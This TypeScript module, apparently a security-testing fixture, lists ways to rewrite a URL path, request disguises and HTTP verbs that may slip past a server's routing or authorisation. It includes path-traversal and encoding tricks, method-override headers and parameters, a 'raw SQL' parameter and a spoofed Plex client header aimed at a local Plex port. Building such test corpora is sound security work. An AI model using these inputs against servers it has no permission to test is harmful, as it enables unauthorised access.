/** Ways to write one path, each of which some server takes for the plain one. */
export const spellings: readonly [name: string, spell: (path: string) => string][] = [
  ['as it is', (path) => path],
  ['slash at the end', (path) => `${path}/`],
  ['two slashes', (path) => `/${path}`],
  ['two slashes inside', (path) => path.replace(/\/(?=[^/]*$)/, '//')],
  ['dot', (path) => `/.${path}`],
  ['dot dot', (path) => `/library/..${path}`],
  ['dot dot at the end', (path) => `${path}/x/..`],
  ['encoded dot dot', (path) => `/library/%2e%2e${path}`],
  ['encoded slash', (path) => path.replace(/\/(?=[^/]*$)/, '%2f')],
  ['encoded slash in capitals', (path) => `/${path.slice(1).replaceAll('/', '%2F')}`],
  ['encoded letter', (path) => path.replace(/[a-z](?=[^a-z]*$)/, hex)],
  ['every letter encoded', (path) => path.replace(/[a-zA-Z]/g, hex)],
  ['encoded twice', (path) => path.replace(/[a-z](?=[^a-z]*$)/, (letter) => `%25${hex(letter).slice(1)}`)],
  ['upper case', (path) => path.toUpperCase()],
  ['one capital', (path) => path.replace(/[a-z](?=[^a-z]*$)/, (letter) => letter.toUpperCase())],
  ['semicolon', (path) => `${path};a=b`],
  ['semicolon inside', (path) => path.replace(/^\/([^/]*)/, '/$1;a=b')],
  ['.json', (path) => `${path}.json`],
  ['encoded blank', (path) => `${path}%20`],
  ['encoded NUL', (path) => `${path}%00`],
  ['backslash', (path) => path.replaceAll('/', '\\')],
  ['fragment', (path) => `${path}#a`],
  ['absolute form', (path) => `http://127.0.0.1:32400${path}`],
  ['overlong slash', (path) => path.replace(/\/(?=[^/]*$)/, '%c0%af')],
]

/** Additions to a read that may make a server take it for something else. */
export const disguises: readonly [name: string, query: (verb: string) => string, headers: (verb: string) => string][] =
  [
    ['method in the query', (verb) => `_method=${verb}`, none],
    ['override in the query', (verb) => `X-HTTP-Method-Override=${verb}`, none],
    ['encoded override in the query', (verb) => `%5Fmethod=${verb}`, none],
    ['a field to set', () => 'title.value=a&title.locked=1', none],
    ['an unknown parameter', () => 'force=1', none],
    ['raw SQL', () => 'having=1', none],
    ['override header', none, (verb) => `X-HTTP-Method-Override: ${verb}\r\n`],
    ['second override header', none, (verb) => `X-HTTP-Method: ${verb}\r\nX-Method-Override: ${verb}\r\n`],
    ['cookie', none, (verb) => `Cookie: _method=${verb}; force=1\r\n`],
    ['upgrade', none, () => 'Connection: Upgrade\r\nUpgrade: websocket\r\n'],
    ['another client', none, () => 'X-Plex-Client-Identifier: another-device\r\nX-Plex-Device: a\r\n'],
  ]

/** Every verb that matters, and some unknown ones. */
export const verbs = [
  'GET',
  'HEAD',
  'OPTIONS',
  'POST',
  'PUT',
  'DELETE',
  'PATCH',
  'TRACE',
  'PROPFIND',
  'PURGE',
  'get',
  'Head',
  'BREW',
]

function none(): string {
  return ''
}

function hex(letter: string): string {
  return `%${letter.charCodeAt(0).toString(16)}`
}
